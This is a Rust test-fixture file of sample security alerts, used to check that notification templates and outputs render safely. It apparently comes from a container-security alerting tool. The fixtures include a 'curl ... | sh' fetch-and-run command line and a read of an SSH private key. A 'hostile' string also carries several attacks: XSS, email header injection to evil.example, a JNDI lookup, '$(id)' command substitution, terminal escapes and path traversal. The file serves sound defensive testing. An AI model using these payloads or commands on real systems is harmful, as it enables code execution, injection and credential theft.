//! Notifications that templates and outputs are tried against: at load, and in golden tests.

use std::collections::BTreeMap;

use alert::{
    Alert, AlertId, Fields, Finding, Fingerprint, GroupId, GroupState, Notification,
    NotificationId, Priority, ScoreItem, Storm, StormRule,
};
use jiff::{SignedDuration, Timestamp};
use serde_json::{Value, json};

/// Every sample by name, in the order of the golden files.
pub fn all() -> [(&'static str, Notification); 8] {
    [
        ("typical", typical()),
        ("pod", pod()),
        ("grouped", grouped()),
        ("closed", closed()),
        ("storm", storm()),
        ("empty", empty()),
        ("huge", huge()),
        ("hostile", hostile()),
    ]
}

/// One finding, seen once.
pub fn typical() -> Notification {
    notification(vec![finding(1, shell())])
}

/// One finding in a pod of which everything is known.
pub fn pod() -> Notification {
    let mut alert = shell();
    let fields = [
        ("container.image.tag", "2.4.1"),
        ("k8s.cluster.name", "berlin"),
        ("k8s.deployment.name", "api"),
        ("k8s.node.name", "worker-7"),
        ("k8s.pod.uid", "0b8a6a52-7f3e-4f0c-9a51-2f4f3f0a9c11"),
        ("k8s.workload.kind", "Deployment"),
        ("k8s.workload.name", "api"),
        ("saker.proc.chain", "sh < node < containerd-shim < systemd"),
        ("saker.sender", "saker-agent"),
    ];
    let fields = fields.into_iter().map(|(name, value)| (name.to_owned(), json!(value)));
    alert.fields.extend(fields);
    notification(vec![finding(1, alert)])
}

/// The first update of a group of three findings that are seen again and again.
pub fn grouped() -> Notification {
    let mut key = shell();
    key.rule = "Private key read".into();
    key.priority = Priority::Critical;
    key.output = "A private key was read (file=/root/.ssh/id_ed25519 process=cat)".into();
    key.fields.insert("fd.name".into(), "/root/.ssh/id_ed25519".into());
    key.fields.insert("proc.cmdline".into(), "cat /root/.ssh/id_ed25519".into());
    let mut host = shell();
    host.rule = "Package manager on a host".into();
    host.priority = Priority::Notice;
    host.output = "A package manager ran (command=apt-get install nmap)".into();
    host.fields.retain(|name, _| !name.starts_with("k8s.") && !name.starts_with("container."));
    let mut notification =
        notification(vec![finding(3, key), finding(37, shell()), finding(1, host)]);
    notification.sequence = 2;
    notification.priority = Priority::Critical;
    notification.alerts_new_count = 12;
    notification
}

/// The summary of a storm that is over.
pub fn storm() -> Notification {
    let mut notification = grouped();
    notification.priority = Priority::Warning;
    notification.findings.retain(|finding| finding.sample.priority <= Priority::Warning);
    notification.labels = BTreeMap::from([
        ("hostname".into(), "worker-7".into()),
        ("source".into(), "syscall".into()),
    ]);
    notification.alerts_count = 10_451;
    notification.alerts_new_count = 451;
    notification.findings_count = 812;
    let row = |rule: &str, priority, count| StormRule { rule: rule.into(), priority, count };
    notification.storm = Some(Storm {
        began: start(),
        ended: Some(start() + SignedDuration::from_secs(200)),
        rules: vec![
            row("Contact K8S API Server From Container", Priority::Notice, 9_300),
            row("Shell in a container", Priority::Warning, 1_100),
        ],
        others_count: 51,
    });
    notification
}

/// A group that ended.
pub fn closed() -> Notification {
    let mut notification = typical();
    notification.sequence = 3;
    notification.state = GroupState::Closed;
    notification.alerts_count = 4;
    notification.alerts_new_count = 0;
    notification.created = start() + SignedDuration::from_hours(2);
    notification
}

/// Nothing but what the type demands.
pub fn empty() -> Notification {
    let mut notification = notification(Vec::new());
    notification.route = String::new();
    notification.output = String::new();
    notification.labels = BTreeMap::new();
    notification.alerts_count = 0;
    notification.alerts_new_count = 0;
    notification
}

/// Twenty findings, each with more text and fields than any destination takes.
pub fn huge() -> Notification {
    let mut alert = shell();
    alert.rule = "A rule with a name that does not end ".repeat(20);
    alert.output = "A long line of output & more of it <here> é😀 ".repeat(1_500);
    alert.hostname = "host".repeat(200);
    alert.tags = (0..200).map(|index| format!("tag-{index}")).collect();
    for index in 0..200 {
        alert.fields.insert(format!("fd.field{index}"), "value & ".repeat(50).into());
    }
    alert.fields.insert("proc.cmdline".into(), "/bin/sh -c 'echo é😀' && ".repeat(1_000).into());
    let mut notification =
        notification((0..20).map(|index| finding(1_000_000 + index, alert.clone())).collect());
    notification.findings_count = 4_321;
    notification
}

/// Every text an attacker can write, written by one: mentions, links, markup, quotes, template
/// code, terminal controls, line breaks, header injection, hidden and reordering characters.
pub fn hostile() -> Notification {
    let mut alert = shell();
    alert.rule = format!("Rule {HOSTILE}");
    alert.output = HOSTILE.into();
    alert.hostname = "host\r\nBcc: everyone@evil.example".into();
    alert.source = "syscall\"}]".into();
    alert.tags = vec!["<!here>".into(), "a,b\n".into()];
    alert.fields = [
        ("proc.cmdline", json!(HOSTILE)),
        ("proc.name", json!("sh\u{202e}gpj")),
        ("k8s.pod.name", json!("<!channel>")),
        ("k8s.ns.name", json!("../../etc")),
        ("container.name", json!("```\n*bold*\n```")),
        ("container.image.repository", json!("evil.example/<b>\u{202e}*x*")),
        ("container.image.tag", json!("1\r\nBcc: all@evil.example")),
        ("k8s.node.name", json!("<!here>\n")),
        ("k8s.workload.kind", json!("{{#if x}}")),
        ("k8s.workload.name", json!(HOSTILE)),
        ("saker.proc.chain", json!("<!channel> < <script> < `id`\n\u{1b}[2J")),
        ("fd.name", json!({"nested": ["\u{1b}[2J", null, true, 1.5]})),
        ("user.name", Value::Null),
        ("{{top}}\"\n<b>", json!("a name the sender chose")),
    ]
    .into_iter()
    .map(|(name, value)| (name.to_owned(), value))
    .collect();
    let mut notification = notification(vec![finding(u64::MAX, alert)]);
    notification.first_seen = Timestamp::MIN;
    notification.last_seen = Timestamp::MAX;
    notification.findings[0].first_seen = Timestamp::MIN;
    notification.findings[0].last_seen = Timestamp::MAX;
    notification.alerts_count = u64::MAX;
    notification.labels = BTreeMap::from([("rule".into(), HOSTILE.into())]);
    notification
}

const HOSTILE: &str = "<!channel> <@U0123> <https://evil.example|Log in> @everyone \
    [click](javascript:alert(1)) <img src=x onerror=alert(1)> &amp; {{#each x}} {{{y}}} \"quoted\" 'q' \
    back\\slash `code` ```\nfence\r\nBcc: all@evil.example\r\n\r\n \u{1b}[31mred\u{1b}]0;t\u{7} \
    \u{202e}gnp.exe \u{200b}zero\u{feff}\u{ad} nul\0 \u{2028}ls\u{2029} \u{85} \u{e0041} ${jndi:ldap://x} $(id)";

/// 2026-11-21T08:00:00Z.
fn start() -> Timestamp {
    Timestamp::constant(1_795_248_000, 0)
}

fn shell() -> Alert {
    let fields: Fields = [
        ("container.id", json!("3f1c2a9be0d4")),
        ("container.image.repository", json!("registry.example/payments/api")),
        ("container.name", json!("api")),
        ("evt.type", json!("execve")),
        ("fd.name", Value::Null),
        ("k8s.ns.name", json!("payments")),
        ("k8s.pod.name", json!("api-7d9c5b7f4-x2x7q")),
        ("proc.cmdline", json!("sh -c curl -s http://198.51.100.7/x | sh")),
        ("proc.exepath", json!("/usr/bin/dash")),
        ("proc.name", json!("sh")),
        ("proc.pid", json!(4242)),
        ("proc.pname", json!("node")),
        ("user.name", json!("node")),
    ]
    .into_iter()
    .map(|(name, value)| (name.to_owned(), value))
    .collect();
    Alert {
        id: AlertId::from_u128(0x0193_4f2a_7c00_7000_8000_0000_0000_0001),
        time: start(),
        received: start() + SignedDuration::from_millis(12),
        rule: "Shell in a container".into(),
        priority: Priority::Warning,
        source: "syscall".into(),
        hostname: "node-3".into(),
        output: "A shell was spawned in a container (command=sh -c curl -s \
                 http://198.51.100.7/x | sh parent=node)"
            .into(),
        tags: vec!["container".into(), "mitre_execution".into(), "T1059".into()],
        fields,
        ends: None,
    }
}

fn finding(count: u64, sample: Alert) -> Finding {
    Finding {
        fingerprint: Fingerprint(0x51ab_0000_0000_0000_0000_0000_0000_0000 | u128::from(count)),
        count,
        first_seen: start(),
        last_seen: start() + SignedDuration::from_secs(200),
        ended: None,
        score: 72,
        score_items: vec![
            ScoreItem { reason: "priority Warning".into(), points: 40 },
            ScoreItem { reason: "namespace payments".into(), points: 32 },
        ],
        sample,
    }
}

fn notification(findings: Vec<Finding>) -> Notification {
    let alerts = findings.iter().map(|finding| finding.count).fold(0, u64::saturating_add);
    Notification {
        id: NotificationId(0x00c0_ffee_0000_0001),
        group: GroupId(0x9_0011),
        sequence: 1,
        state: GroupState::Open,
        route: "default".into(),
        output: "soc".into(),
        labels: BTreeMap::from([
            ("k8s.ns.name".into(), "payments".into()),
            ("rule".into(), "Shell in a container".into()),
        ]),
        priority: Priority::Warning,
        score: 72,
        lane: None,
        alerts_count: alerts,
        alerts_new_count: alerts,
        findings_count: findings.len() as u64,
        findings_hidden_count: 0,
        first_seen: start(),
        last_seen: start() + SignedDuration::from_secs(200),
        created: start() + SignedDuration::from_secs(230),
        findings,
        storm: None,
    }
}
